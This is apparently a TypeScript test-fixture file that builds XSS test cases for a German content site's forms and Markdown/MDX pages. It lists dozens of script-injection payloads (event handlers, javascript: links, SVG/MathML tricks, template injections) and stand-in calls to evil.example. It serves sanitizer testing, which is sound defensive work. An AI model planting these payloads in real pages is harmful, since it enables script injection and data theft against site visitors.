/** Drafts for tests that try to run something in the browser that opens them. */
import type { CollectionName } from '#schemas/collections.ts';

/** If it runs, it sets a mark, opens a dialog and asks somebody else. */
const attack = "window.top.hacked=1;alert(1);fetch('https://evil.example/')";
const img = `<img src=x onerror="${attack}">`;

/** Each in a file's text as it stands, and in the form, where it is escaped. */
const bodies = {
  'a script': `<script>${attack}</script>`,
  'a script that is never closed': `<script>${attack}`,
  'an event handler': img,
  'an event handler without quotation marks': '<img src=x onerror=alert(1)>',
  'an event handler in a Baustein': `<Votum onclick="${attack}">a</Votum>`,
  'an SVG that loads': `<svg onload="${attack}"><animate onbegin="${attack}" attributeName="x" /></svg>`,
  'an SVG with a script': `<svg><script>${attack}</script></svg>`,
  'an SVG with a link': `<svg><a xlink:href="javascript:${attack}"><text>a</text></a></svg>`,
  'MathML that hides a style': `<math><mtext><table><mglyph><style><img src onerror=alert(1)>`,
  'a frame': '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  'a frame of javascript': `<iframe src="javascript:${attack}"></iframe>`,
  'an object': `<object data="javascript:${attack}"></object><embed src="javascript:${attack}">`,
  'a form': `<form action="javascript:${attack}"><button autofocus>a</button></form>`,
  'a base': '<base href="https://evil.example/">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'a style sheet': '<link rel="stylesheet" href="https://evil.example/a.css">',
  'a style':
    '<style>@import "https://evil.example/a.css"; * { background: url(//evil.example) }</style>',
  'the end of a text area': `</textarea>${img}`,
  'the end of the page': `</main></body></html>${img}`,
  'a comment that ends early': `<!--> ${img} -->`,
  'a link of javascript': `[a](javascript:${attack})`,
  'a link of javascript with odd letters': '[a](JaVaScRiPt:alert`1`) [b](java&#9;script:alert(1))',
  'a link of javascript by reference': `[a][b]\n\n[b]: javascript:alert(1)`,
  'a link in angle brackets': '<javascript:alert(1)>',
  'a link to data': '[a](data:text/html,<script>alert(1)</script>)',
  'a link to vbscript': '[a](vbscript:msgbox(1))',
  'an image from elsewhere': '![a](https://evil.example/a.png)',
  'an image of data': '![a](data:image/svg+xml,<svg/onload=alert(1)>)',
  'an image that breaks out of its text': '![" onerror="alert(1)](/uploads/a.jpg)',
  'a title that breaks out': '[a](/themen/ "\\" onmouseover=\\"alert(1)")',
  'code with markup': `\`${img}\`\n\n\`\`\`html\n${img}\n\`\`\``,
  'the language of code': '```"onmouseover=alert(1)//\na\n```',
  'a heading with markup': `## ${img}`,
  'a Baustein with markup in an attribute': `<Unsicher hinweis='"><script>alert(1)</script>'>a</Unsicher>`,
  'a Luecke with markup': `<Luecke was='<img src=x onerror=alert(1)>' />`,
  'a Hinweis of an unknown kind': `<Hinweis art='x" onclick="alert(1)'>a</Hinweis>`,
  'an expression': '{alert(1)} {`${alert(1)}`} {window.top.hacked=1}',
  'a module': `import a from 'https://evil.example/a.js'\n\nexport const b = alert(1)`,
  'a template': '${alert(1)} {{constructor.constructor("alert(1)")()}} <%= alert(1) %>',
  'a footnote with markup': `a[^1]\n\n[^1]: ${img}`,
  'a table with markup': `| ${img} |\n| - |\n| [a](javascript:alert(1)) |`,
} as const;

const fields = [
  ['markup', img],
  ['a quotation mark', `" autofocus onfocus="${attack}" x="`],
  ['the end of the heading', `</h1><script>${attack}</script>`],
  ['a template', '${alert(1)} {alert(1)} {{alert(1)}}'],
  ['an address', 'javascript:alert(1)'],
] as const;

export interface HostileDraft {
  name: string;
  collection: CollectionName;
  /** The data as the form hands it over. */
  data: Record<string, unknown>;
  /** A file of a pull request that no form has written. */
  text?: string;
}

const seite = { titel: 'Test', beschreibung: 'Test', sichtbarkeit: 'intern' };
const praxis = { thema: 'netzwerkarbeit', status: 'aktuell', sichtbarkeit: 'intern' };
const protokoll = { format: 'vortrag', zustand: 'entwurf', datumHinweis: 'Unbekannt' };

export const hostileDrafts: HostileDraft[] = [
  ...Object.entries(bodies).flatMap(([name, body]) => [
    { name: `${name}, in the form`, collection: 'seiten' as const, data: { ...seite, body } },
    {
      name: `${name}, in the file`,
      collection: 'seiten' as const,
      data: {},
      text: `---\ntitel: Test\nbeschreibung: Test\nsichtbarkeit: intern\n---\n\nDavor\n\n${body}\n\nDanach\n`,
    },
    {
      name: `${name}, as a point`,
      collection: 'protokolle' as const,
      data: {
        ...protokoll,
        titel: 'Test',
        quelle: 'Test',
        body: `## Rahmen\n\n### Informationen\n\n- ${body.replaceAll('\n', '\n  ')}`,
      },
    },
  ]),
  ...fields.flatMap(([name, text]): HostileDraft[] => [
    {
      name: `${name}, in the fields of a Seite`,
      collection: 'seiten',
      data: { titel: text, beschreibung: text, sichtbarkeit: text, [text]: text },
    },
    {
      name: `${name}, in the fields of a Protokoll`,
      collection: 'protokolle',
      data: {
        ...protokoll,
        titel: text,
        quelle: text,
        ort: text,
        datumHinweis: text,
        teilnehmende: [text],
        tagesordnung: [{ titel: text, input: text, von: text }],
        anlagen: [{ datei: text, titel: text }],
        standorte: [text],
      },
    },
    {
      name: `${name}, in the fields of a Praxis`,
      collection: 'best-practice',
      data: {
        ...praxis,
        titel: text,
        kernaussage: text,
        ersterSchritt: text,
        verantwortlich: text,
        weitereThemen: [text],
        belege: [{ fundstelle: '2013-07-17-weimar#t1-g1', zitat: text }],
        werdegang: [{ jahr: 2013, stand: text, belege: ['2013-07-17-weimar#t1-g1'] }],
        wandel: text,
        zielgruppen: [text],
        aenderungen: [{ am: '2026-01-01', art: 'ergaenzt', was: text }],
      },
    },
    {
      name: `${name}, in the fields of an Erfahrung`,
      collection: 'erfahrungen',
      data: {
        titel: text,
        standort: 'weimar',
        von: '2013',
        ergebnis: 'teils',
        geschehen: text,
        bedingungen: text,
        anders: text,
        zielgruppen: [text],
        aufwand: text,
        gemeldetAm: '2026-01-01',
        praxis: text,
        thema: text,
        belege: [text],
      },
    },
    {
      name: `${name}, in the fields of an Ausgabe`,
      collection: 'ausgaben',
      data: { titel: text, nummer: 7, datum: '2026-01-01', anmerkung: text },
    },
    {
      name: `${name}, in the fields of a Standort`,
      collection: 'standorte',
      data: {
        name: text,
        ort: text,
        traeger: text,
        ziele: [text],
        anlaufstellen: [{ adresse: text, weg: text, telefon: text, mail: text, sprachen: [text] }],
        quartiere: [{ name: text, zahlen: [{ was: text, wert: text, beleg: text }] }],
      },
    },
    {
      name: `${name}, in the fields of a Zahlenblatt`,
      collection: 'indikatoren',
      data: {
        standort: 'weimar',
        werte: [
          {
            indikator: 'zugewanderte',
            jahr: 2019,
            jahrArt: 'erhoben',
            wert: 40,
            ...{ quartier: text, quelle: text, unsicher: text, hinweis: text },
          },
        ],
      },
    },
    {
      name: `${name}, in the fields of a Termin`,
      collection: 'termine',
      data: { titel: text, beginn: '2026-01-01', art: 'frist', ort: text, hinweis: text },
    },
    {
      name: `${name}, in the fields of a Thema`,
      collection: 'themen',
      data: { titel: text, kuerzel: 'ABC', reihenfolge: 1, beschreibung: text },
    },
    {
      name: `${name}, in the fields of a Begriff`,
      collection: 'glossar',
      data: { begriff: text, weitereFormen: [text], aufloesung: text, erklaerung: text },
    },
  ]),
];
